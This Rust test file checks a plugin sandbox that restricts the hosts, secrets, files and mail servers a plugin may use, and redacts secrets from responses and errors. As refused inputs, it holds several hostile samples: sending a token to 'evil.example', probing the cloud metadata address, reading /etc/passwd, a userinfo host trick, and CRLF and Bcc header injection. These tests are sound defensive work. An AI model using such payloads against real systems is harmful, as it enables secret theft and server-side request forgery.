//! Grants and secrets: what is not granted is refused with what to write, and what is secret stays with the host.

use std::sync::Arc;

use model::{AlertStatus, Notification, Secret};
use plugin::{Grants, PluginSpec, SecretSource};
use ports::{Notifier, NotifyError};

use crate::fake::{World, deadline, notification, script};

fn notifier(body: &str) -> PluginSpec {
    let text = format!(
        "const META = #{{ name: \"n\", needs: #{{ secrets: [\"token\", \"webhook\"] }} }};\nfn notify(n) {{ {body} }}"
    );
    let mut spec = script("n", &text);
    spec.allow = Grants {
        hosts: vec!["api.example.org".to_owned(), "other.example.org".to_owned()],
        secrets: [
            ("token".to_owned(), SecretSource::Inline(Secret::new("t0p&secret\"x".to_owned()))),
            (
                "webhook".to_owned(),
                SecretSource::Inline(Secret::new("https://api.example.org/hook/s3cret?a=b".to_owned())),
            ),
        ]
        .into(),
        ..Grants::default()
    };
    spec
}

async fn notify(world: &Arc<World>, spec: PluginSpec) -> Result<Option<String>, String> {
    notify_with(world, spec, &notification(&[("X", AlertStatus::Firing)])).await
}

async fn notify_with(
    world: &Arc<World>,
    spec: PluginSpec,
    told: &Notification,
) -> Result<Option<String>, String> {
    let host = world.host();
    let notifier: Arc<dyn Notifier> = host.load(spec).await.map_err(|e| e.to_string())?.notifier().unwrap();
    match notifier.notify(told, 1, deadline()).await {
        Ok(receipt) => Ok(receipt.remember),
        Err(NotifyError::Later { message, .. }) => Err(format!("later: {message}")),
        Err(NotifyError::Refused { message, .. }) => Err(format!("refused: {message}")),
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_are_put_in_as_the_request_leaves() {
    let world = World::new();
    for (body, expected) in [
        (
            "http_get(`https://api.example.org/x?t=${secret(\"token\")}`)",
            "GET https://api.example.org/x?t=t0p%26secret%22x\n",
        ),
        (
            "http(\"put\", \"https://api.example.org/\", #{ headers: #{ Authorization: `Bearer ${secret(\"token\")}` } })",
            "\nAuthorization: Bearer t0p&secret\"x\n",
        ),
        (
            "http_post(\"https://api.example.org/\", #{ json: #{ t: secret(\"token\"), w: secret(\"webhook\") } })",
            "\n\n{\"t\":\"t0p&secret\\\"x\",\"w\":\"https://api.example.org/hook/s3cret?a=b\"}",
        ),
        (
            "http_post(\"https://api.example.org/\", #{ form: #{ t: secret(\"token\") } })",
            "\n\nt=t0p%26secret%22x",
        ),
        (
            "http_post(secret(\"webhook\"), #{ query: #{ wait: true } })",
            "POST https://api.example.org/hook/s3cret?a=b&wait=true\n",
        ),
        (
            "http_post(secret(\"webhook\") + \"messages/7\")",
            "POST https://api.example.org/hook/s3cret?a=b/messages/7\n",
        ),
    ] {
        world.answer(200, &[], "");
        notify(&world, notifier(&format!("{body}; ()"))).await.unwrap();
        let sent = world.sent();
        assert!(sent[0].contains(expected), "{body}\n{}", sent[0]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_go_nowhere_else() {
    let world = World::new();
    for (body, expected) in [
        // A URL is bound to its own host, granted or not.
        (
            "http_post(\"https://other.example.org/\", #{ body: secret(\"webhook\") })",
            "the secret `webhook` may go to its own host alone, not to `other.example.org`",
        ),
        ("http_get(`https://evil.example/${secret(\"token\")}`)", "the host `evil.example` is not granted"),
        ("http_get(\"http://169.254.169.254/latest\")", "the host `169.254.169.254` is not granted"),
        ("http_get(\"https://api.example.org@evil.example/\")", "the host `evil.example` is not granted"),
        ("http_get(\"https://api.example.org:8443/\")", "the host `api.example.org:8443` is not granted"),
        ("http_get(\"file:///etc/passwd\")", "the URL has the scheme `file`"),
        ("http_get(\"nonsense\")", "the URL of the request is wrong"),
        ("http(\"CONNECT\", \"https://api.example.org/\", #{})", "`CONNECT` is not a method"),
        (
            "http_get(\"https://api.example.org/\", #{ headers: #{ Host: \"evil.example\" } })",
            "the header `Host` is set by the host alone",
        ),
        (
            "http_get(\"https://api.example.org/\", #{ headers: #{ \"X-A\": \"a\\r\\nX-B: b\" } })",
            "the header `X-A` is not one that can be sent",
        ),
        ("http_get(\"https://api.example.org/\", #{ sniff: true })", "a request has no option `sniff`"),
        ("secret(\"other\")", "the secret `other` is not granted"),
        ("throw secret(\"token\")", "plugin `n`, `notify`: fh-"),
        (
            "loop { try { http_get(\"https://api.example.org/\") } catch { } if now() < 0.0 { break; } }",
            "(limit `",
        ),
        ("for i in 0..20 { http_get(\"https://api.example.org/\") }", "refused"),
    ] {
        let outcome = notify(&world, notifier(body)).await;
        let error = outcome.expect_err(body);
        let fine =
            error.contains(expected) || expected == "refused" && error.contains("no answer was laid out");
        assert!(fine, "{body}\n{error}");
        assert!(!error.contains("t0p") && !error.contains("s3cret"), "{error}");
        for sent in world.sent() {
            assert!(!sent.contains("t0p") && !sent.contains("s3cret"), "{sent}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn answers_and_errors_are_redacted() {
    let world = World::new();
    let read = "let t = secret(\"token\"); let a = http_get(\"https://api.example.org/\"); `${a.body} ${a.headers.echo}`";
    world.answer(
        200,
        &[("echo", "t0p&secret\"x")],
        "t0p&secret\"x, t0p&secret\\\"x, t0p%26secret%22x, dDBwJnNlY3JldCJ4",
    );
    assert_eq!(
        notify(&world, notifier(read)).await.unwrap().as_deref(),
        Some("<secret>, <secret>, <secret>, <secret> <secret>")
    );
    world.fail(ports::OutgoingError::Unreachable("no route for t0p&secret\"x".to_owned()));
    let error = notify(&world, notifier(read)).await.unwrap_err();
    assert!(error.contains("no route for <secret>"), "{error}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_receivers_settings_bring_parameters_and_secrets() {
    let world = World::new();
    let text = "const META = #{ name: \"chat\", needs: #{ hosts: [\"{webhook}\"], secrets: [\"webhook\"] }, \
        params: #{ title: \"none\", show: 3 } };\n\
        fn notify(n) { check(http_post(secret(\"webhook\"), #{ json: #{ t: param(\"title\"), n: param(\"show\") } })); n.title }";
    let spec = script("chat", text);
    let mut told = notification(&[("X", AlertStatus::Firing)]);
    let error = notify_with(&world, spec.clone(), &told).await.unwrap_err();
    assert!(
        error.starts_with(
            "refused: plugin `chat`, `notify`: the secret `webhook` is not granted; give it in the receiver"
        ),
        "{error}"
    );
    Arc::make_mut(&mut told.settings)
        .insert("webhook_url".to_owned(), "\"http://127.0.0.1:9999/hook\"".to_owned());
    Arc::make_mut(&mut told.settings).insert("title".to_owned(), "\"Disk\"".to_owned());
    Arc::make_mut(&mut told.settings)
        .insert("http_config".to_owned(), "{\"follow_redirects\": false}".to_owned());
    world.answer(204, &[], "");
    assert_eq!(notify_with(&world, spec.clone(), &told).await.unwrap().as_deref(), Some("X (page)"));
    let request = world.requests.lock().unwrap().pop().unwrap();
    assert_eq!(request.url.expose(), "http://127.0.0.1:9999/hook");
    assert_eq!(request.body, "{\"n\":3,\"t\":\"Disk\"}");
    assert_eq!(request.reach, ports::Reach::Hosts(["127.0.0.1:9999 private".to_owned()].into()));
    assert!(!request.options.follow_redirects);
    // From a file, as `webhook_url_file` has it.
    let folder = tempfile::tempdir().unwrap();
    let file = folder.path().join("hook");
    Arc::make_mut(&mut told.settings).remove("webhook_url");
    Arc::make_mut(&mut told.settings).insert("webhook_url_file".to_owned(), format!("{file:?}"));
    let notifier = world.host().load(spec.clone()).await.unwrap().notifier().unwrap();
    for address in ["http://127.0.0.1:9998/other", "http://127.0.0.1:9997/third"] {
        // What stands in the file now counts, though the settings are the same.
        std::fs::write(&file, format!("{address}\n")).unwrap();
        world.answer(204, &[], "");
        notifier.notify(&told, 1, deadline()).await.unwrap();
        let sent = world.sent();
        assert!(sent[0].starts_with(&format!("POST {address}\n")), "{sent:?}");
    }
    Arc::make_mut(&mut told.settings).insert("show".to_owned(), "\"many\"".to_owned());
    let error = notify_with(&world, spec, &told).await.unwrap_err();
    assert!(error.contains("the parameter `show` is a text; it must be a number"), "{error}");
}

#[tokio::test(flavor = "multi_thread")]
async fn mail_goes_to_granted_servers() {
    let world = World::new();
    let text = "const META = #{ name: \"mail\" };\n\
        fn notify(n) { mail(\"smarthost\", #{ from: \"a@x\", to: \"b@x, c@x\", subject: n.title, text: \"hi\" }) }";
    let mut told = notification(&[("X", AlertStatus::Firing)]);
    let error = notify_with(&world, script("mail", text), &told).await.unwrap_err();
    assert!(error.contains("the SMTP server `smarthost` is not granted (granted: none)"), "{error}");
    Arc::make_mut(&mut told.settings).insert("smarthost".to_owned(), "\"mx.example.org:25\"".to_owned());
    assert_eq!(notify_with(&world, script("mail", text), &told).await.unwrap().as_deref(), Some("<1@test>"));
    let (server, mail) = world.mails.lock().unwrap().pop().unwrap();
    assert_eq!((server.as_str(), mail.to.len()), ("mx.example.org:25", 2));
    assert_eq!(mail.headers, [("Subject".to_owned(), "X (page)".to_owned())]);
    // The next attempt is the same mail.
    assert_eq!(mail.id, format!("{}/1", told.id));
    notify_with(&world, script("mail", text), &told).await.unwrap();
    assert_eq!(world.mails.lock().unwrap().pop().unwrap().1.id, mail.id);
    let broken = text.replace("subject: n.title", "subject: \"a\\nBcc: evil@x\"");
    let error = notify_with(&world, script("mail", &broken), &told).await.unwrap_err();
    assert!(error.contains("has a line break in it"), "{error}");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_is_missing_is_said_with_what_to_write() {
    let world = World::new();
    let host = world.host();
    let text = "const META = #{ name: \"q\", needs: #{ hosts: [\"{target}\", \"api.example.org\"], secrets: [\"token\"], files: [\"/proc/stat\"] }, \
        params: #{ path: #{ required: true, type: \"string\" } } };\nfn collect(t) {}";
    let mut spec = script("exporters/q", text);
    let error = host.load(spec.clone()).await.unwrap_err().to_string();
    assert_eq!(
        error,
        "exporters/q.rhai: the exporter asks for the hosts api.example.org and the secrets token and the files /proc/stat, \
         which are not granted\nhint: to grant it, write\n\nplugins:\n  - file: exporters/q.rhai\n    allow:\n      hosts: \
         [api.example.org]\n      secrets: { token: { file: /run/secrets/token } }\n      files: [/proc/stat]\n"
    );
    assert_eq!(
        host.check(&spec.source).await.unwrap().grant.unwrap(),
        error.split("write\n\n").nth(1).unwrap()
    );
    spec.allow = Grants {
        hosts: vec!["*".to_owned()],
        secrets: [("token".to_owned(), SecretSource::Env("NONE".to_owned()))].into(),
        files: vec!["/proc/stat".to_owned()],
        ..Grants::default()
    };
    assert!(host.load(spec.clone()).await.unwrap_err().to_string().contains("`*` is not a host"));
    spec.allow.hosts = vec!["*.example.org".to_owned()];
    let error = host.load(spec.clone()).await.unwrap_err().to_string();
    assert!(error.contains("the parameter `path` is required and has no value"), "{error}");
    spec.params.insert("path".to_owned(), "/x".into());
    spec.limits.memory = Some(1 << 30);
    let error = host.load(spec.clone()).await.unwrap_err().to_string();
    assert!(
        error.contains("`limits: { memory: 1024MiB }` is more than the 64MiB that a plugin can have"),
        "{error}"
    );
    spec.limits.memory = None;
    host.load(spec).await.unwrap();
}
